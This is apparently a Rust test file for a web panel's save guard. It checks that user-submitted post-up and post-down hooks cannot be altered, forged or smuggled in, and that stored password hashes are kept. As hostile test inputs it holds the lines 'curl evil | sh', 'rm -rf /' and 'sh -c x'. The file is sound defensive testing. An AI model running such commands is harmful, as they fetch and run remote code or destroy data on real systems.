use qeli::web::save_guard::{
    first_raw_hook_change, first_repeated_name, first_unintended_hooks, keep_secrets_from_disk,
    panel_needs_full_restart, restore_hooks, PanelSettings, ProfileHooks, StoredSecrets,
    UserSecrets,
};

fn p(name: &str, up: &str, down: &str) -> ProfileHooks {
    ProfileHooks { name: name.to_string(), post_up: up.to_string(), post_down: down.to_string() }
}

fn view(v: &[ProfileHooks]) -> Vec<(String, String, String)> {
    v.iter().map(|x| (x.name.clone(), x.post_up.clone(), x.post_down.clone())).collect()
}

#[test]
fn a_structured_save_takes_hooks_from_disk() {
    let disk = Some(vec![p("main", "/bin/up", "/bin/down"), p("main", "second", "x"), p("alt", "a", "")]);
    let mut sent = vec![p("main", "curl evil | sh", ""), p("new", "rm -rf /", "y"), p("alt", "", "")];
    restore_hooks(&mut sent, &disk);
    assert_eq!(
        view(&sent),
        vec![
            ("main".into(), "/bin/up".into(), "/bin/down".into()),
            ("new".into(), "".into(), "".into()),
            ("alt".into(), "a".into(), "".into()),
        ]
    );
    assert_eq!(first_raw_hook_change(&sent, &disk), None);
}

#[test]
fn an_unreadable_file_clears_every_hook() {
    let mut sent = vec![p("main", "up", "down")];
    restore_hooks(&mut sent, &None);
    assert_eq!(view(&sent), vec![("main".into(), "".into(), "".into())]);
}

#[test]
fn a_raw_save_that_changes_a_hook_is_refused() {
    let disk = Some(vec![p("main", "/bin/up", "")]);
    assert_eq!(first_raw_hook_change(&[p("main", "/bin/up", "")], &disk), None);
    assert_eq!(first_raw_hook_change(&[p("main", "/bin/up", ""), p("main", "/bin/up", "x")], &disk), Some(1));
    assert_eq!(first_raw_hook_change(&[p("other", "id", "")], &disk), Some(0));
    assert_eq!(first_raw_hook_change(&[p("main", "", "")], &disk), Some(0));
    // With the file unreadable no hook may be set at all.
    assert_eq!(first_raw_hook_change(&[p("main", "", "")], &None), None);
    assert_eq!(first_raw_hook_change(&[p("main", "/bin/up", "")], &None), Some(0));
}

#[test]
fn text_must_read_back_with_the_intended_hooks() {
    let intended = vec![p("a", "u", "d"), p("b", "", "")];
    assert_eq!(first_unintended_hooks(&intended, &intended), None);
    // A forged profile that was never intended.
    assert_eq!(first_unintended_hooks(&intended, &[p("a", "u", "d"), p("evil", "", "")]), Some(1));
    // A hook smuggled into an intended profile.
    assert_eq!(first_unintended_hooks(&intended, &[p("b", "sh -c x", "")]), Some(0));
    // With a repeated name, the last intended entry is the one that counts.
    let repeated = vec![p("a", "first", ""), p("a", "last", "")];
    assert_eq!(first_unintended_hooks(&repeated, &[p("a", "last", "")]), None);
    assert_eq!(first_unintended_hooks(&repeated, &[p("a", "first", "")]), Some(0));
}

#[test]
fn a_repeated_username_is_found() {
    let names = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    assert_eq!(first_repeated_name(&names(&["alice", "bob", "carol"])), None);
    assert_eq!(first_repeated_name(&names(&["alice", "bob", "alice", "bob"])), Some(2));
    assert_eq!(first_repeated_name(&names(&["x", "x"])), Some(1));
    assert_eq!(first_repeated_name(&[]), None);
}

fn user(name: &str, hash: &str, enc: &str) -> UserSecrets {
    UserSecrets {
        username: name.to_string(),
        password_hash: hash.to_string(),
        password_enc: enc.to_string(),
    }
}

fn users_view(v: &[UserSecrets]) -> Vec<(String, String, String)> {
    v.iter().map(|u| (u.username.clone(), u.password_hash.clone(), u.password_enc.clone())).collect()
}

#[test]
fn a_structured_save_keeps_the_stored_passwords() {
    let disk = Some(StoredSecrets {
        users: vec![user("alice", "$argon2id$alice", "ZW5j"), user("alice", "second", "x"), user("bob", "$argon2id$bob", "")],
        admin_hash: "$argon2id$admin".to_string(),
    });
    let mut users = vec![user("alice", "", ""), user("bob", "$argon2id$NEW", "n"), user("carol", "", "")];
    let mut admin = String::new();
    assert!(keep_secrets_from_disk(&mut users, &mut admin, &disk));
    assert_eq!(
        users_view(&users),
        vec![
            ("alice".into(), "$argon2id$alice".into(), "ZW5j".into()),
            ("bob".into(), "$argon2id$NEW".into(), "n".into()),
            ("carol".into(), "".into(), "".into()),
        ]
    );
    assert_eq!(admin, "$argon2id$admin");
    let mut set = "$argon2id$typed".to_string();
    assert!(keep_secrets_from_disk(&mut vec![], &mut set, &disk));
    assert_eq!(set, "$argon2id$typed");
}

#[test]
fn an_unreadable_file_refuses_a_save_with_inline_users() {
    let mut users = vec![user("alice", "", "")];
    let mut admin = String::new();
    assert!(!keep_secrets_from_disk(&mut users, &mut admin, &None));
    assert_eq!(users_view(&users), vec![("alice".into(), "".into(), "".into())]);
    assert!(keep_secrets_from_disk(&mut vec![], &mut admin, &None));
}

fn panel() -> PanelSettings {
    PanelSettings {
        bind: "0.0.0.0".into(),
        port: 8443,
        enabled: true,
        tls: true,
        tls_cert: "/etc/qeli/cert.pem".into(),
        tls_key: "/etc/qeli/key.pem".into(),
        base_path: "/".into(),
        users_file: "/etc/qeli/users.conf".into(),
    }
}

#[test]
fn moving_the_panel_socket_needs_a_full_restart() {
    assert!(!panel_needs_full_restart(&panel(), &panel()));
    let mut p = panel();
    p.port = 9443;
    assert!(panel_needs_full_restart(&p, &panel()));
    let mut p = panel();
    p.base_path = "/qeli".into();
    assert!(panel_needs_full_restart(&p, &panel()));
    let mut p = panel();
    p.users_file = "/etc/qeli/other.conf".into();
    assert!(panel_needs_full_restart(&p, &panel()));
    let mut p = panel();
    p.tls = false;
    assert!(panel_needs_full_restart(&p, &panel()));
}
